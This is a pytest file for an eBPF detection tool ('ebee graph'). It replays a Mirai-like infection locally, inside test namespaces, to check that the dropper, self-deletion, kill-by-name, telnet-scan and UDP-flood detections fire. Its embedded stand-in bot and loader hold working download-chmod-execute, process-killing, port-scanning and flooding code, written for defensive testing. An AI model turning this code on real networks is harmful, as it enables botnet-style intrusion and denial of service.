@@ -1,0 +1,436 @@
+"""ebee graph: a Mirai-like infection replayed with harmless stand-ins, everything local.
+
+Two network namespaces the test creates (names ebgr-*) joined by a veth pair: B serves the
+"bot" over HTTP, receives the flood and holds the 300 addresses the bot scans (closed ports:
+resets); A holds the loader and the bot. Nothing is routed out of either. The
+loader downloads the bot into a temporary directory, chmods and runs it; the bot deletes its
+own file, kills two decoys with "competitor" names, scans ports 23 and 2323 on 300 addresses
+and sends a bounded number of UDP packets to one host. Beside it a compiler, a curl download
+from a local server and a web server with many clients run in the same cgroup: they must
+raise nothing. ebee graph traces only that cgroup (--cgroup), so other work on the machine
+does not enter the graph."""
+import json
+import os
+import secrets
+import shutil
+import signal
+import subprocess
+import sys
+import tempfile
+import textwrap
+import threading
+import time
+
+import pytest
+
+from conftest import EBEE, bpf_ids, run
+
+CG_ROOT = "/sys/fs/cgroup/unified"
+PY = "/usr/bin/python3"
+SCAN_ADDRS = 300
+FLOOD_PACKETS = 1500
+
+BOT = textwrap.dedent("""\
+    #!/usr/bin/python3
+    # the stand-in bot: every stage harmless and bounded
+    import json, os, signal, socket, sys
+    me = os.path.abspath(sys.argv[0])
+    os.unlink(me)                                   # self-deleting executable
+    names = sys.argv[1].split(",")                  # competitors, found by name like Mirai's killer
+    killed = []
+    for d in os.listdir("/proc"):
+        if not d.isdigit():
+            continue
+        try:
+            comm = open("/proc/%s/comm" % d).read().strip()
+        except OSError:
+            continue
+        if comm in names:
+            os.kill(int(d), signal.SIGKILL)
+            killed.append(int(d))
+    n = 0
+    for i in range(SCAN_N):                       # scan 23 and 2323 on the test network
+        addr = "10.202.%d.%d" % (i // 250, i % 250 + 2)
+        for port in (23, 2323):
+            s = socket.socket()
+            s.setblocking(False)
+            try:
+                s.connect((addr, port))
+            except OSError:
+                pass
+            s.close()
+            n += 1
+    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    sent = 0
+    for i in range(FLOOD_N):                      # bounded UDP flood of one host
+        try:
+            # a connect per packet: the only per-packet event the events collector has
+            u.connect(("10.201.0.2", 9999))
+            u.send(b"x" * 64)
+            sent += 1
+        except OSError:
+            pass
+    print(json.dumps({"pid": os.getpid(), "killed": killed, "connects": n, "sent": sent}))
+""").replace("SCAN_N", str(SCAN_ADDRS)).replace("FLOOD_N", str(FLOOD_PACKETS))
+
+LOADER = textwrap.dedent("""\
+    import json, os, subprocess, sys, urllib.request
+    url, path, names = sys.argv[1:4]
+    data = urllib.request.urlopen(url, timeout=10).read()
+    with open(path, "wb") as f:
+        f.write(data)
+    os.chmod(path, 0o755)
+    p = subprocess.run([path, names], capture_output=True, timeout=120)
+    sys.stdout.write(p.stdout.decode())
+    sys.stderr.write(p.stderr.decode())
+    print(json.dumps({"loader": os.getpid()}))
+    sys.exit(p.returncode)
+""")
+
+CLIENTS = textwrap.dedent("""\
+    import sys, urllib.request
+    for i in range(int(sys.argv[2])):
+        urllib.request.urlopen(sys.argv[1], timeout=5).read()
+""")
+
+
+def sh(*args, check=True):
+    return subprocess.run(list(args), capture_output=True, text=True, check=check, timeout=30)
+
+
+@pytest.fixture
+def cg():
+    if not os.path.isdir(CG_ROOT):
+        pytest.skip("no cgroup2 at " + CG_ROOT)
+    path = os.path.join(CG_ROOT, f"ebgr-test-{os.getpid()}")
+    os.makedirs(path)
+    yield path
+    for _ in range(100):
+        try:
+            os.rmdir(path)
+            break
+        except OSError:
+            time.sleep(0.1)
+
+
+@pytest.fixture
+def nets():
+    """Namespaces ebgr-a-PID (loader, bot) and ebgr-b-PID (HTTP server and flood target
+    10.201.0.2, scanned hosts 10.202.0.2-10.202.1.51), joined by a veth pair. Removed on every path, a
+    failing setup included."""
+    if not shutil.which("ip"):
+        pytest.skip("no iproute2")
+    tag = str(os.getpid())
+    a, b = f"ebgr-a-{tag}", f"ebgr-b-{tag}"
+    va, vb = f"ebgra{tag[-6:]}", f"ebgrb{tag[-6:]}"
+    made = []
+    try:
+        for ns in (a, b):
+            sh("ip", "netns", "add", ns)
+            made.append(ns)
+        sh("ip", "link", "add", va, "netns", a, "type", "veth", "peer", "name", vb, "netns", b)
+        sh("ip", "-n", a, "addr", "add", "10.201.0.1/24", "dev", va)
+        sh("ip", "-n", b, "addr", "add", "10.201.0.2/24", "dev", vb)
+        for ns, dev in ((a, va), (b, vb), (a, "lo"), (b, "lo")):
+            sh("ip", "-n", ns, "link", "set", dev, "up")
+        # the scanned network: 300 hosts, all of them addresses of B (closed ports answer
+        # with a reset), reached from A over the veth only
+        sh("ip", "-n", a, "route", "add", "10.202.0.0/23", "dev", va)
+        batch = "".join(f"addr add 10.202.{i // 250}.{i % 250 + 2}/32 dev {vb}\n"
+                        for i in range(SCAN_ADDRS))
+        subprocess.run(["ip", "-n", b, "-batch", "-"], input=batch, text=True, check=True,
+                       capture_output=True, timeout=30)
+        yield {"a": a, "b": b}
+    finally:
+        for ns in made:
+            sh("ip", "netns", "del", ns, check=False)
+
+
+class Procs:
+    """Processes the test starts: always killed (by pid) and reaped."""
+
+    def __init__(self):
+        self.p = []
+
+    def start(self, argv, cg=None, **kw):
+        def enter():
+            if cg:
+                with open(os.path.join(cg, "cgroup.procs"), "w") as f:
+                    f.write(str(os.getpid()))
+        p = subprocess.Popen(argv, preexec_fn=enter, stdout=subprocess.PIPE,
+                             stderr=subprocess.PIPE, **kw)
+        self.p.append(p)
+        return p
+
+    def close(self):
+        for p in self.p:
+            if p.poll() is None:
+                p.kill()
+            try:
+                p.communicate(timeout=10)
+            except subprocess.TimeoutExpired:
+                pass
+
+
+@pytest.fixture
+def procs():
+    ps = Procs()
+    yield ps
+    ps.close()
+
+
+def start_graph(args):
+    """ebee graph run, ready once every program it loaded has its link."""
+    p = subprocess.Popen([EBEE, "graph", "run", "--json", *args], stdout=subprocess.PIPE,
+                         stderr=subprocess.PIPE, text=True, start_new_session=True)
+    deadline = time.time() + 90
+    while time.time() < deadline:
+        if p.poll() is not None:
+            raise AssertionError("ebee graph exited early: " + p.stderr.read())
+        progs, links = bpf_ids(p.pid), bpf_ids(p.pid, "link_id")
+        if progs and len(links) >= len(progs):
+            time.sleep(0.3)
+            if bpf_ids(p.pid, "link_id") == links:
+                return p
+        time.sleep(0.05)
+    p.kill()
+    p.communicate()
+    raise AssertionError("ebee graph did not attach")
+
+
+def stop_graph(p):
+    time.sleep(0.5)   # the reader drains every 20 ms: let the last records arrive
+    p.send_signal(signal.SIGINT)
+    out, err = p.communicate(timeout=60)
+    assert p.returncode == 0, err
+    lines = [json.loads(x) for x in out.splitlines() if x.strip()]
+    return lines[:-1], lines[-1], err
+
+
+def wait_port(ns, port, timeout=10):
+    deadline = time.time() + timeout
+    while time.time() < deadline:
+        r = sh("ip", "netns", "exec", ns, "ss", "-Hltn", f"sport = :{port}", check=False)
+        if r.stdout.strip():
+            return
+        time.sleep(0.1)
+    raise AssertionError(f"nothing listening on {port} in {ns}")
+
+
+def free_port():
+    import socket
+    s = socket.socket()
+    s.bind(("127.0.0.1", 0))
+    port = s.getsockname()[1]
+    s.close()
+    return port
+
+
+def test_mirai_like_infection(cg, nets, procs, tmp_path):
+    if not shutil.which("gcc") or not shutil.which("curl"):
+        pytest.skip("needs gcc and curl for the benign workloads")
+    www, work = tmp_path / "www", tmp_path / "work"
+    www.mkdir()
+    work.mkdir()
+    (www / "bot").write_text(BOT)
+    (www / "pkg.tar").write_bytes(os.urandom(200000))
+    (work / "loader.py").write_text(LOADER)
+    (work / "clients.py").write_text(CLIENTS)
+    (work / "hello.c").write_text('#include <stdio.h>\nint main(void){puts("hi");return 0;}\n')
+    suffix = secrets.token_hex(3)
+    names = [f"qbot{suffix}", f"kaiten{suffix}"]
+    bot_path = str(work / "bot")
+
+    # infrastructure (outside the traced cgroup): the bot's server and flood sink in B, a
+    # local web server and a package server on loopback for the benign workloads
+    procs.start(["ip", "netns", "exec", nets["b"], PY, "-m", "http.server", "--bind",
+                 "10.201.0.2", "8080", "--directory", str(www)])
+    procs.start(["ip", "netns", "exec", nets["b"], PY, "-c",
+                 "import socket\ns=socket.socket(socket.AF_INET,socket.SOCK_DGRAM)\n"
+                 "s.bind(('10.201.0.2',9999))\nwhile True: s.recv(2048)"])
+    web_port, pkg_port = free_port(), free_port()
+    web = procs.start([PY, "-m", "http.server", "--bind", "127.0.0.1", str(web_port),
+                       "--directory", str(www)], cg=cg)
+    pkg = procs.start([PY, "-m", "http.server", "--bind", "127.0.0.1", str(pkg_port),
+                       "--directory", str(www)])
+    wait_port(nets["b"], 8080)
+    # decoys with competitor names: not the bot's children
+    decoys = []
+    for n in names:
+        exe = work / n
+        shutil.copy("/bin/sleep", exe)
+        decoys.append(procs.start([str(exe), "300"]))
+
+    g = start_graph(["--cgroup", cg, "--save", str(tmp_path / "g.ebg")])
+    try:
+        # the benign workloads, beside the infection
+        benign = [
+            procs.start(["gcc", "-o", str(work / "hello"), str(work / "hello.c")], cg=cg),
+            procs.start(["curl", "-sf", "-o", str(work / "pkg.tar"),
+                         f"http://127.0.0.1:{pkg_port}/pkg.tar"], cg=cg),
+            procs.start([PY, str(work / "clients.py"), f"http://127.0.0.1:{web_port}/pkg.tar",
+                         "200"], cg=cg),
+        ]
+        loader = procs.start(["ip", "netns", "exec", nets["a"], PY, str(work / "loader.py"),
+                              "http://10.201.0.2:8080/bot", bot_path, ",".join(names)], cg=cg)
+        out, err = loader.communicate(timeout=180)
+        assert loader.returncode == 0, err
+        res = [json.loads(x) for x in out.decode().splitlines()]
+        bot, ld = res[0], res[1]
+        for p in benign:
+            p.wait(timeout=120)
+            assert p.returncode == 0, p.stderr.read()
+        hello = procs.start([str(work / "hello")], cg=cg)
+        hello.wait(timeout=10)
+    finally:
+        alerts, summary, gerr = stop_graph(g)
+
+    # the stages really happened
+    assert sorted(bot["killed"]) == sorted(d.pid for d in decoys)
+    assert bot["connects"] == 2 * SCAN_ADDRS and bot["sent"] == FLOOD_PACKETS
+    assert not os.path.exists(bot_path)
+
+    assert summary["type"] == "summary" and summary["collector"] == "graph"
+    assert summary["lost"] == 0, gerr
+    by_rule = {}
+    for a in alerts:
+        assert a["source"] == "graph" and a["hostname"] and a["time"].endswith("Z")
+        assert set(a) >= {"time", "rule", "priority", "output", "output_fields", "source",
+                          "tags", "hostname"}
+        by_rule.setdefault(a["rule"], []).append(a)
+    # every detection of the infection, each once, each naming the bot's lineage
+    assert set(by_rule) == {"Dropper executed", "Self-deleting executable",
+                            "Processes killed by name", "Network scan", "Flood"}, \
+        [a["output"] for a in alerts]
+    for rule, lst in by_rule.items():
+        assert len(lst) == 1, rule
+        f = lst[0]["output_fields"]
+        assert f["proc.pid"] == bot["pid"], (rule, f["proc.pid"], bot)
+        assert f["proc.exe"] == bot_path
+        assert f["graph.nodes"] and f["graph.alert_id"].startswith("g")
+    drop = by_rule["Dropper executed"][0]["output_fields"]
+    labels = {n["label"] for n in drop["graph.nodes"]}
+    assert bot_path in labels and "10.201.0.2:8080" in labels
+    writer = [n for n in drop["graph.nodes"] if n["type"] == "proc" and n["pid"] == ld["loader"]]
+    assert writer, drop["graph.nodes"]
+    assert {e["type"] for e in drop["graph.edges"]} >= {"created", "chmod_x", "executed",
+                                                          "connected"}
+    kill = by_rule["Processes killed by name"][0]["output_fields"]
+    victims = {n["pid"] for n in kill["graph.nodes"] if n["type"] == "proc"}
+    assert victims >= {d.pid for d in decoys}
+    scan = by_rule["Network scan"][0]
+    assert scan["priority"] == "Warning" and "T1046" in scan["tags"]
+    assert any(n["label"].startswith("10.202.") for n in scan["output_fields"]["graph.nodes"])
+    flood = by_rule["Flood"][0]["output_fields"]
+    assert any(n["label"] == "10.201.0.2:9999" for n in flood["graph.nodes"])
+
+    # the saved graph answers queries and shows the alert's subgraph
+    gfile = str(tmp_path / "g.ebg")
+    r = run(["graph", "show", gfile, by_rule["Dropper executed"][0]["output_fields"]
+             ["graph.alert_id"]])
+    assert r.returncode == 0 and "Dropper executed" in r.stdout and bot_path in r.stdout
+    r = run(["graph", "query", "--json", gfile, f"lineage {bot['pid']}"])
+    assert r.returncode == 0, r.stderr
+    rows = [json.loads(x) for x in r.stdout.splitlines()]
+    assert any(x["relation"] == "self" and x["label"] == bot_path for x in rows)
+    assert any(x["relation"] == "ancestor" and x["pid"] == ld["loader"] for x in rows)
+    r = run(["graph", "query", "--json", gfile, "fanout --min 100"])
+    rows = [json.loads(x) for x in r.stdout.splitlines()]
+    assert [x["pid"] for x in rows] == [bot["pid"]] and rows[0]["addresses"] >= SCAN_ADDRS
+    r = run(["graph", "query", "--json", gfile, f"who-wrote {bot_path}"])
+    rows = [json.loads(x) for x in r.stdout.splitlines()]
+    assert {x["edge"] for x in rows if x["pid"] == ld["loader"]} >= {"created", "chmod_x"}
+    r = run(["graph", "query", "--json", gfile, "exec-dropped"])
+    assert any(x["pid"] == bot["pid"] for x in map(json.loads, r.stdout.splitlines()))
+    # the compiled program: executed, written by another process, no network: no alert
+    assert any(str(work / "hello") in x for x in r.stdout.splitlines())
+    r = run(["graph", "export", gfile, "--format", "json"])
+    doc = json.loads(r.stdout)
+    assert doc["directed"] and len(doc["nodes"]) > SCAN_ADDRS and doc["links"]
+    ids = {n["id"] for n in doc["nodes"]}
+    assert all(e["source"] in ids and e["target"] in ids for e in doc["links"])
+    r = run(["graph", "export", gfile, "--format", "graphml"])
+    import xml.etree.ElementTree as ET
+    root = ET.fromstring(r.stdout)
+    ns = "{http://graphml.graphdrawing.org/xmlns}"
+    assert len(root.find(ns + "graph").findall(ns + "node")) == len(doc["nodes"])
+    r = run(["graph", "export", gfile, "--format", "dot"])
+    assert r.stdout.startswith("digraph ebee {") and r.stdout.count(" -> ") == len(doc["links"])
+
+
+@pytest.fixture(scope="module")
+def saved_graph(tmp_path_factory):
+    """A small real graph: a short traced run of the test's own process."""
+    path = str(tmp_path_factory.mktemp("graph") / "small.ebg")
+    r = run(["graph", "run", "--duration", "1", "--pid", str(os.getpid()), "--save", path],
+            timeout=120)
+    assert r.returncode == 0, r.stderr
+    return path
+
+
+@pytest.mark.parametrize("args,msg", [
+    (["query", "FILE", "bogus"], "unknown query 'bogus'"),
+    (["query", "FILE", "neighbours n999999"], "unknown node 'n999999'"),
+    (["query", "FILE", "lineage 4000000"], "unknown node 'proc:4000000'"),
+    (["query", "FILE", "fanout --min x"], "invalid minimum 'x'"),
+    (["show", "FILE", "g77"], "unknown alert 'g77'"),
+    (["export", "FILE", "--format", "svg"], "svg"),
+    (["export", "TRUNC"], "corrupt or truncated graph"),
+    (["export", "FLIP"], "corrupt or truncated graph"),
+    (["export", "EMPTY"], "not an ebee graph"),
+    (["export", "/nonexistent/g"], "cannot open graph '/nonexistent/g'"),
+])
+def test_bad_input(saved_graph, tmp_path, args, msg):
+    path = saved_graph
+    data = open(path, "rb").read()
+    files = {"FILE": path, "TRUNC": str(tmp_path / "t"), "FLIP": str(tmp_path / "f"),
+             "EMPTY": str(tmp_path / "e")}
+    open(files["TRUNC"], "wb").write(data[:len(data) // 2])
+    flipped = bytearray(data)
+    flipped[len(data) // 3] ^= 0x40
+    open(files["FLIP"], "wb").write(bytes(flipped))
+    open(files["EMPTY"], "wb").write(b"")
+    r = run(["graph", *[files.get(a, a) for a in args]])
+    assert r.returncode == 2, (r.stdout, r.stderr)
+    lines = r.stderr.strip().splitlines()
+    assert len(lines) == 1 and msg in lines[0], r.stderr
+
+
+def test_loss_marks_graph_incomplete(tmp_path):
+    """A deliberately tiny ring buffer: the storm's events are lost, the summary says so, the
+    saved graph keeps the flag and a detection computed over that window is flagged."""
+    d = tmp_path / "files"
+    d.mkdir()
+    storm = textwrap.dedent(f"""\
+        import os, signal, socket, time
+        os.kill(os.getpid(), signal.SIGSTOP)          # continued once ebee is attached
+        for i in range(30000):
+            open("{d}/f%d" % (i % 3000), "w").close()
+        time.sleep(0.3)
+        for i in range(150):
+            s = socket.socket(); s.setblocking(False)
+            try: s.connect(("127.3.%d.%d" % (i // 250, i % 250 + 1), 23))
+            except OSError: pass
+            s.close()
+            time.sleep(0.005)   # slow enough for the tiny ring: the scan itself arrives
+    """)
+    p = subprocess.Popen([PY, "-c", storm])
+    try:
+        deadline = time.time() + 10
+        while open(f"/proc/{p.pid}/stat").read().split(")")[1].split()[0] != "T":
+            assert time.time() < deadline, "storm did not stop itself"
+            time.sleep(0.02)
+        g = start_graph(["--pid", str(p.pid), "--ring-size", "4096",
+                         "--save", str(tmp_path / "lossy.ebg")])
+        os.kill(p.pid, signal.SIGCONT)
+        p.wait(timeout=120)
+    finally:
+        if p.poll() is None:
+            p.kill()
+            p.wait()
+        alerts, summary, err = stop_graph(g)
+    assert summary["lost"] > 0 and summary["incomplete"] is True, summary
+    scans = [a for a in alerts if a["rule"] == "Network scan"]
+    assert scans and scans[0]["output_fields"]["graph.incomplete"] is True
+    doc = json.loads(run(["graph", "export", str(tmp_path / "lossy.ebg")]).stdout)
+    assert doc["graph"]["incomplete"] is True and doc["graph"]["lost"] == summary["lost"]
